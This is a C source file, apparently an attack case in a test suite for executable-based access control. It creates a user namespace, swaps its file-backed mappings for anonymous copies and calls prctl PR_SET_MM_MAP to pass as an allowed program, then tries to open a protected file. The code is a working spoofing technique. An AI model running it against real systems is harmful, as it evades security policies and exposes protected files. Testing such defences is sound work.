// SPDX-License-Identifier: Apache-2.0
// attack_pose SECONDS ENOUGH: a running program, in a user namespace of its own, shows another one as what it runs
// (PR_SET_MM), and opens the file that belongs to that one.
#include "attack.h"
#include <linux/prctl.h>
#include <sched.h>
#include <sys/prctl.h>

enum { TIMES = 20, MAPPINGS = 32, FIELDS = 52, OPENED = 7 };

#define OWNED "/owned/file"

static void put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  require(fd >= 0 && write(fd, text, strlen(text)) > 0 && close(fd) == 0, path);
}

// The kernel lets nobody change the program of which a mapping is left: each one becomes anonymous memory in its place.
static void let_go_of_program(const char *program) {
  static struct {
    unsigned long start, end;
    int protection;
  } found[MAPPINGS];
  int count = 0;
  char line[512];
  FILE *maps = fopen("/proc/self/maps", "r");
  require(maps != NULL, "read the mappings");
  while (fgets(line, sizeof line, maps)) {
    char access[5], path[300] = "";
    unsigned long start, end;
    if (sscanf(line, "%lx-%lx %4s %*s %*s %*s %299s", &start, &end, access, path) < 4 || strcmp(path, program)) continue;
    require(count < MAPPINGS, "remember the mappings");
    int protection = (access[0] == 'r' ? PROT_READ : 0) | (access[1] == 'w' ? PROT_WRITE : 0) |
                     (access[2] == 'x' ? PROT_EXEC : 0);
    found[count].start = start, found[count].end = end, found[count++].protection = protection;
  }
  fclose(maps);
  for (int index = 0; index < count; index++) {
    size_t length = found[index].end - found[index].start;
    void *copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    require(copy != MAP_FAILED, "copy a mapping");
    memcpy(copy, (void *)found[index].start, length);
    mprotect(copy, length, found[index].protection);
    if (syscall(SYS_mremap, copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, found[index].start) == -1) _exit(2);
  }
}

// Fields of proc_pid_stat(5) by their numbers.
static void read_fields(unsigned long *fields) {
  char text[2048] = {0};
  int fd = open("/proc/self/stat", O_RDONLY), number = 3;
  require(fd >= 0 && read(fd, text, sizeof text - 1) > 0, "read the own state");
  close(fd);
  for (char *word = strtok(strrchr(text, ')') + 2, " "); word && number < FIELDS; word = strtok(NULL, " "))
    fields[number++] = strtoul(word, NULL, 10);
}

static int pose(void) {
  unsigned long fields[FIELDS] = {0};
  read_fields(fields);
  struct prctl_mm_map map = {
      .start_code = fields[26], .end_code = fields[27],   .start_stack = fields[28], .start_data = fields[45],
      .end_data = fields[46],   .start_brk = fields[47],  .brk = (unsigned long)sbrk(0), .arg_start = fields[48],
      .arg_end = fields[49],    .env_start = fields[50],  .env_end = fields[51],     .exe_fd = open(ALLOWED, O_RDONLY),
  };
  return prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0);
}

static Outcome attempt(const char *program) {
  pid_t child = fork();
  if (child == 0) {
    let_go_of_program(program);
    int failed = pose();
    if (failed && (errno == EINVAL || errno == ENOSYS)) _exit(1);
    _exit(open(OWNED, O_RDONLY) >= 0 ? OPENED : 0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  require(WIFEXITED(status) && WEXITSTATUS(status) != 1 && WEXITSTATUS(status) != 2, "pose as another program");
  return WEXITSTATUS(status) == OPENED ? SUCCESS : NOTHING;
}

int main(int argc, char **argv) {
  begin(argc, argv);
  if (unshare(CLONE_NEWUSER)) return unavailable("user namespaces are not permitted");
  put("/proc/self/setgroups", "deny");
  put("/proc/self/uid_map", "0 1000 1");
  put("/proc/self/gid_map", "0 1000 1");
  for (int time = 0; time < TIMES && !is_over(); time++) count(attempt(argv[0]));
  return finish();
}
